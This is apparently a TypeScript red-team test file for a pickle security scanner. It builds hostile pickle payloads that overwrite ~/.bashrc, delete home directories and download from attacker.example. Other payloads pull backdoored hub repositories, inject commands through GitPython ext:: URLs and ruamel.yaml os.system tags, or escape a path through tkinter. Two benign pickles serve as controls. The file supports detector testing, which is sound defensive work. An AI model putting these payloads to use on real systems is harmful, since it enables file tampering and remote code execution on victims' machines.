import { dumps, Ops, py, type Py } from '../pickle-writer.ts';
import { MARKER, type RedTeamCase } from '../red-team/types.ts';

/**
 * Third-party and standard-library callables rounds 1–3 left suspicious (unknown), though each writes or
 * deletes files, downloads, or runs code when a pickle calls it: TensorFlow's file API and Keras' `get_file`
 * (dangerous in Keras configs, not yet in pickles), pandas' readers and `DataFrame.to_*` writers, SciPy's
 * MATLAB writer, `transformers.pipeline`, `datasets.load_dataset`, GitPython, ruamel.yaml, tkinter.
 */
const call = (module: string, name: string, ...args: Py[]): Uint8Array => dumps(py.reduce(py.global(module, name), py.tuple(...args)), 4);
/** `pandas` + `DataFrame.to_pickle` (protocol 4 walks the dotted name) on a DataFrame the pickle built. */
function dataFrameToPickle(path: string): Uint8Array {
  const o = new Ops().proto(4);
  o.str('pandas').str('DataFrame.to_pickle').stackGlobal().mark();
  o.str('pandas').str('DataFrame').stackGlobal().emptyTuple().op(0x81); // NEWOBJ: DataFrame.__new__(DataFrame)
  return o.str(path).tuple().reduce().stop().bytes();
}

export function pickleCases(): RedTeamCase[] {
  const hostile = (name: string, bytes: Uint8Array, how: string): RedTeamCase => ({ name, kind: 'pickle', file: `${name}.pkl`, bytes, expect: 'dangerous', how });
  const honest = (name: string, bytes: Uint8Array, how: string): RedTeamCase => ({ name, kind: 'pickle', file: `${name}.pkl`, bytes, expect: 'clean', how });
  return [
    hostile('tensorflow-io-write-file', call('tensorflow.io', 'write_file', '/home/user/.bashrc', MARKER), 'tf.io.write_file writes any path (dangerous as a TFOpLambda since round 3)'),
    hostile('tensorflow-gen-io-ops-write-file', call('tensorflow.python.ops.gen_io_ops', 'write_file', '/home/user/.bashrc', MARKER), 'the same op under the module a pickler names it by'),
    hostile('tensorflow-gfile-rmtree', call('tensorflow.io.gfile', 'rmtree', '/home/user'), 'tf.io.gfile.rmtree deletes a tree'),
    hostile('keras-get-file', call('tensorflow.keras.utils', 'get_file', 'payload.py', 'https://attacker.example/payload.py'), 'keras.utils.get_file downloads a file'),
    hostile('pandas-read-html', call('pandas', 'read_html', 'https://attacker.example/beacon'), 'pandas readers fetch URLs (read_csv was already dangerous)'),
    hostile('pandas-read-clipboard', call('pandas', 'read_clipboard'), 'read_clipboard runs xclip/xsel/pbpaste'),
    hostile('pandas-dataframe-to-pickle', dataFrameToPickle('/home/user/.bashrc'), 'the unbound DataFrame.to_pickle writes a file (Path.touch was round 3)'),
    hostile('scipy-io-savemat', call('scipy.io', 'savemat', '/home/user/.bashrc', py.dict({ x: 1 })), 'savemat writes a .mat file to any path'),
    hostile('transformers-pipeline', call('transformers', 'pipeline', 'text-generation', 'attacker/backdoored-model'), 'downloads a hub repository and torch.loads its weights'),
    hostile('datasets-load-dataset', call('datasets', 'load_dataset', 'attacker/dataset-with-script'), 'downloads a dataset repository (datasets < 3 runs its loading script)'),
    hostile('gitpython-clone-from', call('git', 'Repo.clone_from', `ext::sh -c ${MARKER.replace(/ /g, '% ')}`, '/tmp/clone', null, null, ['-c protocol.ext.allow=always']), 'CVE-2022-24439: an ext:: URL makes git run a command'),
    hostile('ruamel-yaml-load', call('ruamel.yaml', 'load', `!!python/object/apply:os.system ["${MARKER}"]`), 'ruamel.yaml < 0.18 load() without a Loader is the unsafe loader'),
    hostile('tkinter-tk-readprofile', call('tkinter', 'Tk', null, null, '/../../tmp/uploads/evil', false), 'Tk() execs ~/.<className>.py and sources ~/.<className>.tcl: the class name walks out of $HOME'),
    hostile('mailbox-mbox-creates-file', call('mailbox', 'mbox', '/home/user/.bashrc.d/x'), 'mailbox.mbox creates its file'),
    honest('sklearn-pipeline', dumps(py.reduce(py.global('sklearn.pipeline', 'Pipeline'), py.tuple(), { newobj: true, state: py.dict({ steps: py.tuple(), memory: null, verbose: false, _sklearn_version: '1.5.0' }) }), 4), "sklearn's Pipeline (a module named 'pipeline' is not transformers.pipeline)"),
    honest('pandas-dataframe-state', dumps(py.reduce(py.global('pandas.core.frame', 'DataFrame'), py.tuple(), { newobj: true, state: py.dict({ _metadata: py.tuple(), _flags: py.dict({ allows_duplicate_labels: true }) }) }), 4), 'DataFrame.__new__ then BUILD, as DataFrame.__reduce__ writes it'),
  ];
}
